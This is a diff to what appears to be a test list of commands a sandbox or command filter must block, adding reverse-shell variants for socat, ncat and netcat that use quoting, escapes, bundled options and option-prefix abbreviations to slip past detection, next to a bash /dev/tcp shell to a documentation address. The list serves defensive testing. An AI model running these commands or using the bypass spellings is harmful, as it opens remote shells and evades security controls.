@@ -71,6 +71,23 @@ STOPPED_DEFAULT_ONLY = [
     ("/usr/bin/nc.traditional", ["nc", "-e", "/bin/sh", "h", "1"]),
     ("/usr/bin/ncat", ["ncat", "--sh-exec", "sh", "h", "1"]),
     ("/usr/bin/socat", ["socat", "TCP:198.51.100.1:4444", "EXEC:/bin/bash"]),
+    # socat unquotes an address before it reads the keyword; SHELL: is 1.8's
+    ("/usr/bin/socat", ["socat", "TCP:198.51.100.1:4444", "EX'E'C:/bin/bash,pty,stderr,setsid"]),
+    ("/usr/bin/socat", ["socat", "TCP:198.51.100.1:4444", '"EXEC":/bin/bash']),
+    ("/usr/bin/socat", ["socat", "TCP:198.51.100.1:4444", "SYS\\TEM:bash -li,pty,stderr"]),
+    ("/usr/bin/socat", ["socat", "TCP:198.51.100.1:4444", "SHELL:bash -li,pty,stderr"]),
+    # bundled short options and getopt_long prefixes
+    ("/usr/bin/ncat", ["ncat", "-ve", "/bin/sh", "h", "1"]),
+    ("/usr/bin/ncat", ["ncat", "-vc", "sh -i", "h", "1"]),
+    ("/usr/bin/ncat", ["ncat", "-ke/bin/sh", "-l", "1"]),
+    ("/usr/bin/ncat", ["ncat", "--exe", "/bin/sh", "h", "1"]),
+    ("/usr/bin/ncat", ["ncat", "--e=/bin/sh", "h", "1"]),
+    ("/usr/bin/ncat", ["ncat", "--sh", "sh -i", "h", "1"]),
+    ("/usr/bin/ncat", ["ncat", "--lua", "x.lua", "h", "1"]),
+    ("/usr/bin/nc.traditional", ["nc", "-vc", "sh", "h", "1"]),
+    ("/usr/bin/netcat", ["netcat", "-vc", "sh", "h", "1"]),
+    ("/usr/bin/netcat", ["netcat", "--exec=/bin/sh", "h", "1"]),
+    ("/usr/bin/nc", ["nc", "--sh", "sh -i", "h", "1"]),
     ("/bin/bash", ["bash", "-c", "bash -i >& /dev/tcp/198.51.100.1/4444 0>&1"]),
     # tunnelling tools
     ("/usr/local/bin/ngrok", ["ngrok", "tcp", "22"]),
